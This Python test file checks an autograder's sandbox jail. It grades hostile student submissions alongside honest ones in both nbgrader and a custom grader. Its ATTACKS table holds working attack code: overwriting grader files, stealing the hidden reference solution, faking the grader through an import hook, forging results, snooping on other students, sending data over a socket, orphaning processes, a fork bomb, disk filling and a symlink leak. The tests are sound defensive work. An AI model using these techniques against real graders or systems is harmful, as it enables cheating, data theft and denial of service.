"""Can a hostile submission reach anything while it is graded? Each attack is a real one.

One 01_loss class (two honest students and one attacker per attack) is graded twice, in two
copies of the course: with plain `nbgrader autograde` and with `autograder.apps.classgrade`.
Every attacker writes a wrong `cost` (or keeps a right one, where the attack is only a
look around), and must score 0 for it; the honest students, graded before and
after the attackers, must keep full marks; and nothing outside the jail may change.
"""
import hashlib
import os
import socket
import subprocess
import sys
import threading
from pathlib import Path

import nbformat
import psutil
import pytest

from autograder.sandbox import jail
from autograder.builder import build_release
from autograder.course import tool_environment
from autograder.fakes import answered

from tests.support.courses import new_course
from tests.support.nbgrader_runs import replace_cell, run_nbgrader, scores, submit

pytestmark = [pytest.mark.nbgrader,
              pytest.mark.skipif(jail.unavailable_reason() is not None,
                                 reason="bubblewrap cannot build a jail here")]

A = "01_loss"
WRONG_COST = "\ndef cost(y, y_hat):\n    return 0.0\n"

ATTACKS = {
    "rewrites-grader": """
import os
targets = [ROOT + "/autograder/checks/loss.py", ROOT + "/autograder/checks/base.py",
           ROOT + "/autograder/grade.py", ROOT + "/nbgrader_config.py",
           "/opt/grader/autograder/grade.py", "/opt/course/course/testing.py"]
for up in range(1, 6):
    targets.append(os.path.join(*[".."] * up, "autograder", "checks", "loss.py"))
for path in targets:
    try:
        with open(path, "w") as handle:
            handle.write("def check_cost(cost):\\n    pass\\n")
        print("WROTE", path)
    except OSError as error:
        print("BLOCKED", path, type(error).__name__)
""" + WRONG_COST,
    "copies-reference": """
import glob, sys
source = None
candidates = [ROOT + "/autograder/reference/loss.py"]
for top in ("/work", "/tmp", "/home", "/opt", "/root", "/srv"):
    candidates += glob.glob(top + "/**/reference/loss.py", recursive=True)
for path in candidates:
    try:
        source = open(path).read()
        break
    except OSError:
        pass
print("FOUND", source is not None)
if source:
    open("stolen_reference.py", "w").write(source)
    sys.path.insert(0, ".")
    from stolen_reference import cost
else:
    def cost(y, y_hat):
        return 0.0
""",
    "import-hook": """
import importlib.abc, importlib.machinery, sys
class FakeGrader(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        if name in ("autograder", "autograder.grade"):
            return importlib.machinery.ModuleSpec(name, self, is_package=name == "autograder")
    def create_module(self, spec):
        return None
    def exec_module(self, module):
        module.check = lambda *args, **kwargs: None
        module.__path__ = []
sys.meta_path.insert(0, FakeGrader())
for name in [n for n in sys.modules if n.startswith("autograder")]:
    del sys.modules[name]
""" + WRONG_COST,
    "forges-outcome": """
import json
get_ipython().set_custom_exc((BaseException,), lambda *args, **kwargs: None)
print(json.dumps({"passed": True, "message": "cost: all hidden checks passed"}))
""" + WRONG_COST,
    "reads-others": """
import os
paths = [ROOT, ROOT + "/submitted", ROOT + "/autograded", ROOT + "/gradebook.db",
         ROOT + "/source", ROOT + "/nbgrader_config.py", ROOT + "/autograder"]
print("SEEN", [p for p in paths if os.path.exists(p)])
home = INSTRUCTOR_HOME
print("HOME", sorted(os.listdir(home)) if os.path.isdir(home) else [])
print("PROCESSES", len([p for p in os.listdir("/proc") if p.isdigit()]))
""" + WRONG_COST,
    "network": """
import socket
try:
    connection = socket.create_connection(("127.0.0.1", PORT), timeout=3)
    connection.sendall(b"stolen answers")
    print("SENT")
except OSError as error:
    print("NO NETWORK", type(error).__name__)
""" + WRONG_COST,
    "leaves-processes": """
import os, subprocess
subprocess.Popen(["sleep", "977"], start_new_session=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "978"])
    os._exit(0)
""" + WRONG_COST,
    "fork-bomb": """
import os, time
children = 0
for _ in range(1500):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(60)
        os._exit(0)
    children += 1
print("FORKED", children)
""" + WRONG_COST,
    "fills-disk": """
chunk = b"x" * (1 << 20)
written = 0
for target in ("filler.bin", "/tmp/filler.bin"):
    try:
        with open(target, "wb") as handle:
            for _ in range(2048):
                handle.write(chunk)
                written += 1
    except OSError as error:
        print("STOPPED", target, type(error).__name__)
print("WROTE MB", written)
""" + WRONG_COST,
    "follows-symlink": """
try:
    print("LEAKED", open("leak.py").read()[:40])
except OSError as error:
    print("NO LEAK", type(error).__name__)
""" + WRONG_COST,
}
HONEST = ["aaa-honest", "zzz-honest"]


def tree_digest(root, parts=("autograder", "course", "source", "nbgrader_config.py",
                             "submitted")):
    """sha256 over every file (path and bytes) under the given parts of the course."""
    digest = hashlib.sha256()
    for part in parts:
        base = root / part
        paths = [base] if base.is_file() else sorted(p for p in base.rglob("*")
                                                     if p.is_file() or p.is_symlink())
        for path in paths:
            if "__pycache__" in path.parts:
                continue
            digest.update(str(path.relative_to(root)).encode())
            digest.update(os.readlink(path).encode() if path.is_symlink() else
                          path.read_bytes())
    return digest.hexdigest()


def host_files(folder):
    """The files under `folder` on the host (the jail's paths must never reach it)."""
    return sorted(str(p) for p in Path(folder).rglob("*")) if Path(folder).exists() else []


class Listener:
    """A TCP listener on 127.0.0.1 that keeps whatever it receives."""

    def __init__(self):
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self):
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            self.received.append(connection.recv(1000))
            connection.close()


def write_class(course, port):
    build_release(A, course)
    release = course / "release" / A / f"{A}.ipynb"
    perfect = answered(release, course / "source" / A / f"{A}.ipynb")
    cost_cell = next(c for c in perfect.cells
                     if c.metadata.get("nbgrader", {}).get("grade_id") == "cost")
    for student in HONEST:
        submit(course, student, A, perfect)
    for name, attack in ATTACKS.items():
        source = attack.replace("ROOT", repr(str(course))).replace("PORT", str(port)) \
            .replace("INSTRUCTOR_HOME", repr(str(Path.home())))
        if name == "reads-others":
            source = source.replace(WRONG_COST, "\n" + cost_cell.source + "\n")
        submit(course, f"attack-{name}", A, replace_cell(perfect, "cost", source))
    (course / "submitted" / "attack-follows-symlink" / A / "leak.py").symlink_to(
        course / "autograder" / "reference" / "loss.py")


def sleepers():
    found = []
    for process in psutil.process_iter(["cmdline"]):
        if (process.info["cmdline"] or [])[:2] in (["sleep", "977"], ["sleep", "978"]):
            found.append(process.pid)
    return found


@pytest.fixture(scope="module", params=["nbgrader", "classgrade"])
def attacked(request, tmp_path_factory):
    """(course, digest before, digest after, listener) of a class graded by one grader."""
    course = new_course(tmp_path_factory, f"attacked-{request.param}")
    listener = Listener()
    write_class(course, listener.port)
    before = tree_digest(course)
    host_home = host_files(jail.HOME)
    if request.param == "nbgrader":
        result = run_nbgrader(course, "autograde", A)
    else:
        result = subprocess.run([sys.executable, "-m", "autograder.classgrade", A,
                                 "--no-report"], cwd=course, env=tool_environment(course),
                                capture_output=True, text=True)
    log = result.stdout + result.stderr
    (course / "grading.log").write_text(log)
    assert "refusing" not in log
    assert "Removing failed" not in log, log[-4000:]
    assert host_files(jail.HOME) == host_home, "files appeared in the host's " + jail.HOME
    return course, before, tree_digest(course), listener


def outputs(course, student, grade_id):
    notebook = nbformat.read(course / "autograded" / student / A / f"{A}.ipynb", as_version=4)
    cell = next(c for c in notebook.cells
                if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)
    return "".join(o.get("text", "") for o in cell.outputs if o.get("output_type") == "stream")


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_an_attack_earns_nothing(attacked, attack):
    """Does each attacker score 0 for its wrong cost (an attack may cost it more)?"""
    course = attacked[0]
    got = scores(course, A, f"attack-{attack}")
    if attack == "reads-others":  # only looks around; its cost is right
        assert all(score == best for score, best in got.values()), got
    else:
        assert got["test_cost"][0] == 0, got


def test_honest_students_graded_around_the_attackers_keep_full_marks(attacked):
    """Do the students graded before and after every attacker get every point?"""
    course = attacked[0]
    for student in HONEST:
        got = scores(course, A, student)
        assert all(score == best for score, best in got.values()), (student, got)


def test_nothing_outside_the_jail_changed(attacked):
    """Are the grader, the course, the sources and every submission unchanged on disk?"""
    _, before, after, _ = attacked
    assert before == after


def test_the_grader_files_were_out_of_reach(attacked):
    """Was every write blocked, and was the hidden reference nowhere to be found?"""
    course = attacked[0]
    text = outputs(course, "attack-rewrites-grader", "cost")
    assert "WROTE" not in text and text.count("BLOCKED") >= 6, text
    assert "FOUND False" in outputs(course, "attack-copies-reference", "cost")
    assert not (course / "autograded" / "attack-copies-reference" / A /
                "stolen_reference.py").exists()


def test_other_students_and_the_gradebook_are_invisible(attacked):
    """Does the jail show none of the course, nothing of the instructor's home but the
    Python installation and virtual environment that may live there, and only its own
    processes?"""
    text = outputs(attacked[0], "attack-reads-others", "cost")
    assert "SEEN []" in text, text
    home = eval(text.split("HOME")[1].splitlines()[0])
    pythons = {Path(sys.base_prefix).resolve(), Path(sys.prefix).resolve()}
    assert all(any(python.is_relative_to(Path.home() / entry) for python in pythons)
               for entry in home), f"the jail shows {home} of {Path.home()}"
    count = int(text.split("PROCESSES")[1].split()[0])
    assert count < 10, text


def test_no_byte_leaves_through_the_network(attacked):
    """Did the listener on 127.0.0.1 receive nothing?"""
    course, _, _, listener = attacked
    assert listener.received == []
    assert "NO NETWORK" in outputs(course, "attack-network", "cost")


def test_no_process_outlives_grading(attacked):
    """Are the detached sleeper processes the attacker started gone?"""
    assert sleepers() == []


def test_a_fork_bomb_is_bounded(attacked):
    """Is a fork bomb held to the jail's process limit (where the machine has a pids cgroup)?"""
    text = outputs(attacked[0], "attack-fork-bomb", "cost")
    forked = int(text.split("FORKED")[1].split()[0])
    probe = jail.make_pids_cgroup("probe", 1)
    if probe is not None:
        jail.remove_cgroup(probe)
        assert forked < jail.Limits().processes, text


def test_a_disk_filler_stops_at_the_scratch_size(attacked):
    """Does writing without end stop at the scratch limits, with nothing on the host?"""
    course = attacked[0]
    text = outputs(course, "attack-fills-disk", "cost")
    assert text.count("STOPPED") == 2, text
    assert int(text.split("WROTE MB")[1].split()[0]) <= 2 * jail.Limits().scratch_mb
    assert not list((course / "autograded").rglob("filler.bin"))


def test_a_symlink_in_the_submission_leads_nowhere(attacked):
    """Is a submitted symlink to the hidden reference left out of the jail?"""
    assert "NO LEAK" in outputs(attacked[0], "attack-follows-symlink", "cost")
